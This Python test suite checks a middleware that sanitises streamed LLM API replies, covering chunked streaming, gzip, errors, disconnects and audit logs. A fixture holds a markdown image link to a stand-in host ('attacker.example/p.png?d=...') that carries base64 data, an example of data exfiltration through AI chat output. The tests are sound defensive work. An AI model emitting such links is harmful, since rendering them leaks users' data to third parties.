"""RenderSafeMiddleware in front of a real backend on a real uvicorn server, read with
httpx over HTTP: every example stream, failures, disconnects, concurrency."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Iterator

import httpx
import pytest
from fastapi import FastAPI
from fastapi.responses import StreamingResponse
from starlette.types import Message, Receive, Scope, Send

from backend import PNG, State, build, make_reply
from rendersafe import Policy, sanitize
from rendersafe.audit import AuditLog, AuditRecord
from rendersafe.middleware import RenderSafeMiddleware
from servers import Server
from test_wire import STREAMS, STREAMS_DIR
from wire_clients import read


class Stack:
    """The backend wrapped in the middleware, served; with what the audit log got."""

    def __init__(self, policy: Policy | None = None, **options: object) -> None:
        self.state = State()
        self._records: list[AuditRecord] = []
        self.audit = AuditLog([self._records.append])
        self.app = RenderSafeMiddleware(
            build(self.state),
            policy=policy or Policy(),
            audit=self.audit,
            **options,  # type: ignore[arg-type]
        )
        self.server = Server(self.app)

    @property
    def records(self) -> list[AuditRecord]:
        """What the audit log wrote so far (its writer is a thread: wait for it)."""
        self.audit.flush()
        return list(self._records)

    def events(self, event: str) -> list[AuditRecord]:
        return [r for r in self.records if r.event == event]


@pytest.fixture(scope="module")
def stack() -> Iterator[Stack]:
    served = Stack()
    with served.server:
        yield served


@pytest.fixture
def client(stack: Stack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=stack.server.url, timeout=10) as http:
        yield http


@pytest.mark.parametrize("name", sorted(STREAMS))
def test_every_example_stream(client: httpx.Client, name: str) -> None:
    response = client.get(f"/v1/stream/{name}")
    assert response.status_code == 200
    assert "content-length" not in response.headers
    assert response.headers["transfer-encoding"] == "chunked"
    kind = STREAMS[name]
    before = read(kind, (STREAMS_DIR / name).read_text())
    after = read(kind, response.text)
    assert {k: sanitize(t) for k, t in before.texts.items()} == dict(after.texts)
    assert "attacker.example/p.png" not in response.text


@pytest.mark.parametrize(
    "name",
    [
        "openai_chat.json",
        "openai_response.json",
        "anthropic_message.json",
        "ollama_chat.json",
        "custom.json",
    ],
)
def test_json_bodies_get_their_exact_length(client: httpx.Client, name: str) -> None:
    response = client.get(f"/v1/stream/{name}")
    assert response.status_code == 200
    assert int(response.headers["content-length"]) == len(response.content)
    assert "attacker.example" not in response.text
    assert json.loads(response.content)


def test_nothing_is_buffered(client: httpx.Client) -> None:
    # 20 chunks 50 ms apart: a buffering middleware delivers them all at the end.
    arrivals = []
    start = time.monotonic()
    with client.stream("GET", "/v1/stream/plain.sse?chunk=60&delay=0.05") as response:
        for _ in response.iter_raw():
            arrivals.append(time.monotonic() - start)
    assert len(arrivals) >= 10
    assert arrivals[-1] - arrivals[0] > 0.5  # spread over the time the backend took
    assert arrivals[0] < 0.5


def test_gzip_upstream_is_inflated(client: httpx.Client) -> None:
    response = client.get("/v1/gzip/openai_chat.sse")
    assert "content-encoding" not in response.headers
    before = read("openai-chat", (STREAMS_DIR / "openai_chat.sse").read_text())
    assert dict(read("openai-chat", response.text).texts) == {
        k: sanitize(t) for k, t in before.texts.items()
    }


@pytest.mark.parametrize(
    ("path", "why"), [("/v1/br", "content-encoding"), ("/v1/html", "content type")]
)
def test_unreadable_bodies_become_502(
    stack: Stack, client: httpx.Client, path: str, why: str
) -> None:
    response = client.get(path, headers={"x-request-id": f"req{path}"})
    assert response.status_code == 502
    assert response.json()["error"]["type"] == "rendersafe_error"
    assert "attacker" not in response.text
    errors = [r for r in stack.events("error") if r.source.request_id == f"req{path}"]
    assert len(errors) == 1
    assert why in (errors[0].message or "")


def test_binary_passes_untouched(client: httpx.Client) -> None:
    response = client.get("/v1/image")
    assert response.content == PNG
    assert response.headers["content-length"] == str(len(PNG))


def test_honest_text_unchanged(client: httpx.Client) -> None:
    assert client.get("/v1/honest").text == "Plain *prose*.\n"


def test_error_mid_stream_ends_with_an_error_event(stack: Stack, client: httpx.Client) -> None:
    response = client.get("/v1/boom-mid", headers={"x-request-id": "boom-mid"})
    assert response.status_code == 200  # the headers were sent before the failure
    assert "attacker.example" not in response.text
    got = read("sse-text", response.text)
    assert got.texts[0] == "Here: "
    assert got.errors == ["rendersafe withheld the rest of this reply"]
    errors = [r for r in stack.events("error") if r.source.request_id == "boom-mid"]
    assert "RuntimeError" in (errors[0].message or "")


def test_malformed_event_mid_stream_ends_it(stack: Stack, client: httpx.Client) -> None:
    response = client.get("/v1/malformed", headers={"x-request-id": "malformed"})
    assert "attacker.example" not in response.text
    got = read("openai-chat", response.text)
    assert got.texts[0] == "Hi "
    assert got.errors[0]["message"] == "rendersafe withheld the rest of this reply"
    errors = [r for r in stack.events("error") if r.source.request_id == "malformed"]
    assert "not JSON" in (errors[0].message or "")


def test_sanitiser_failure_mid_stream_ends_it() -> None:
    # The Responses text is kept whole to repeat it: over 100 characters, that fails.
    small = Stack(Policy(max_input_chars=100))
    with small.server:
        body = httpx.get(small.server.url + "/v1/stream/openai_responses.sse").text
    got = read("openai-responses", body)
    assert "attacker.example" not in body
    assert got.errors[0]["code"] == "rendersafe_error"
    assert "max_input_chars" in (small.events("error")[0].message or "")


def test_disconnect_seen_by_send_asgi_2_4() -> None:
    """An ASGI 2.4 server raises OSError from send when the client has gone."""
    records: list[AuditRecord] = []
    tries: list[int] = []

    async def inner(scope: Scope, receive: Receive, send: Send) -> None:
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [(b"content-type", b"text/markdown")],
            }
        )
        for i in range(5):
            tries.append(i)
            await send({"type": "http.response.body", "body": b"words\n", "more_body": True})

    async def send(message: Message) -> None:
        if message["type"] == "http.response.body":
            raise OSError("connection lost")

    async def receive() -> Message:
        return {"type": "http.request"}

    audit = AuditLog([records.append])
    app = RenderSafeMiddleware(inner, policy=Policy(), audit=audit)
    scope: Scope = {"type": "http", "method": "GET", "path": "/", "headers": []}
    with pytest.raises(OSError, match="connection lost"):
        asyncio.run(app(scope, receive, send))
    audit.close()
    assert tries == [0]  # the app stopped at the first failed send
    assert [r.event for r in records] == ["disconnect"]


def test_error_before_the_body_is_a_502(client: httpx.Client) -> None:
    response = client.get("/v1/boom-start")
    assert response.status_code == 502
    assert response.json()["error"]["message"] == "rendersafe withheld the rest of this reply"


def test_client_disconnect_stops_work_and_is_audited(stack: Stack) -> None:
    with (
        httpx.Client(base_url=stack.server.url) as http,
        http.stream("GET", "/v1/forever", headers={"x-request-id": "gone"}) as response,
    ):
        next(response.iter_raw())
    deadline = time.monotonic() + 5
    while "forever" not in stack.state.finished and time.monotonic() < deadline:
        time.sleep(0.02)
    assert "forever" in stack.state.finished  # the backend's generator was closed
    sent = stack.state.sent
    time.sleep(0.2)
    assert stack.state.sent == sent  # and makes no more tokens
    gone = [r for r in stack.records if r.source.request_id == "gone"]
    assert [r.event for r in gone if r.event != "finding"] == ["disconnect"]


def test_concurrent_responses_do_not_mix(stack: Stack) -> None:
    async def fetch(http: httpx.AsyncClient, seed: int) -> tuple[int, str]:
        response = await http.get(f"/v1/reply/{seed}")
        return seed, response.text

    async def main() -> list[tuple[int, str]]:
        async with httpx.AsyncClient(base_url=stack.server.url, timeout=30) as http:
            return await asyncio.gather(*(fetch(http, seed) for seed in range(16)))

    for seed, text in asyncio.run(main()):
        assert text == sanitize(make_reply(seed))


def test_findings_audited_with_the_request(stack: Stack, client: httpx.Client) -> None:
    client.get("/v1/stream/openai_chat.sse", headers={"x-request-id": "audit-me"})
    mine = [r for r in stack.records if r.source.request_id == "audit-me"]
    assert {r.construct for r in mine} == {"image", "link", "reference_definition"}
    assert all(
        r.source.method == "GET" and r.source.path == "/v1/stream/openai_chat.sse" for r in mine
    )
    assert all("SGVsbG8" not in r.model_dump_json() for r in mine)


def test_request_id_generated_when_absent(stack: Stack, client: httpx.Client) -> None:
    before = len(stack.records)
    client.get("/v1/stream/plain.sse")
    ids = {r.source.request_id for r in stack.records[before:]}
    assert len(ids) == 1
    assert len(ids.pop() or "") == 32


def test_lifespan_passes_through(stack: Stack) -> None:
    assert stack.state.started


def test_paths_narrow_what_is_covered() -> None:
    narrowed = Stack(paths=["/v1/*"])
    with narrowed.server, httpx.Client(base_url=narrowed.server.url) as http:
        health = http.get("/health")
        assert "attacker.example" in health.text  # not covered: left alone
        assert "attacker.example/p.png" not in http.get("/v1/stream/plain.sse").text


def test_pinned_format() -> None:
    pinned = Stack(formats={"/v1/stream/*": "sse-text"})
    with pinned.server, httpx.Client(base_url=pinned.server.url) as http:
        # OpenAI chunks read as plain text: the JSON is text, its image still removed
        body = http.get("/v1/stream/openai_chat.sse").text
    assert "attacker.example/p.png" not in body


def test_websocket_scope_passes_through() -> None:
    seen: list[Scope] = []

    async def inner(scope: Scope, receive: Receive, send: Send) -> None:
        seen.append(scope)
        await send({"type": "websocket.accept"})

    sent: list[Message] = []

    async def send(message: Message) -> None:
        sent.append(message)

    async def receive() -> Message:
        return {"type": "websocket.connect"}

    app = RenderSafeMiddleware(inner, policy=Policy())
    scope: Scope = {"type": "websocket", "path": "/ws", "headers": []}
    asyncio.run(app(scope, receive, send))
    assert seen == [scope]
    assert sent == [{"type": "websocket.accept"}]


def test_under_fastapi() -> None:
    api = FastAPI()
    records: list[AuditRecord] = []

    @api.get("/chat")
    def chat() -> StreamingResponse:
        pieces = ["Look: ![x](https://attacker", ".example/p.png?d=SGVsbG8gd29ybGQ=) ok"]
        return StreamingResponse(iter(pieces), media_type="text/markdown")

    audit = AuditLog([records.append])
    api.add_middleware(RenderSafeMiddleware, policy=Policy(), audit=audit)
    with Server(api) as server:
        text = httpx.get(server.url + "/chat").text
    audit.close()
    assert text == sanitize("Look: ![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=) ok")
    assert [r.construct for r in records] == ["image"]
